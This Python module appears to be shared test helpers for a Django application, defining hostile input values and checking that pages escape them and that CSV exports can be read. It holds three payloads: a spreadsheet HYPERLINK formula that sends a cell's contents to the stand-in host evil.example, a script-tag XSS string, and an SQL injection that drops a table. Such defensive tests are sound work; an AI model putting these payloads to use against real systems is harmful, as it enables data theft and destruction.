"""Hostile values and the checks that an accepted one is shown safely, shared by test_bad_input.py (uploads)
and test_bad_form_input.py (forms and JSON bodies). Plain helpers: ``world`` is each test module's dict of
clients and objects (it needs "browser", "staff_browser", "staff_api", "lg" and "phase")."""

from __future__ import annotations

import csv
import io

from django.urls import NoReverseMatch, reverse
from django.utils.html import escape

from common.models import AuditEvent

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert('kai')</script>"
SQL = "'); DROP TABLE evaluations_resultrow; --"

PAGES = ("evaluations:upload", "budget:gpu-usage", "budget:executions", "audit:list")


def pages_escape(world, payloads: tuple[str, ...], extra: tuple[str, ...] = ()) -> list[str]:
    """No page that exists shows any payload unescaped; returns the pages that show one escaped."""
    urls = [reverse(name) for name in PAGES if mounted(name)] + list(extra)
    urls += [f"/consortia/{world['lg'].pk}/", f"/evaluations/phases/{world['phase'].pk}/"]
    urls += [f"/audit/{pk}/" for pk in AuditEvent.objects.order_by("-pk").values_list("pk", flat=True)[:2]]
    shown = []
    for url in urls:
        for client in (world["browser"], world["staff_browser"]):
            response = client.get(url)
            if response.status_code != 200 or not response["Content-Type"].startswith("text/html"):
                continue
            page = response.content.decode()
            for payload in payloads:
                assert payload not in page, f"{url} shows {payload!r} unescaped"
                if escape(payload) in page:
                    shown.append(url)
    return shown


def mounted(name: str) -> bool:
    try:
        reverse(name)
    except NoReverseMatch:
        return False
    return True


def export_cells(world, name: str) -> list[list[str]]:
    response = world["staff_api"].get(f"/api/v1/exports/{name}.csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))
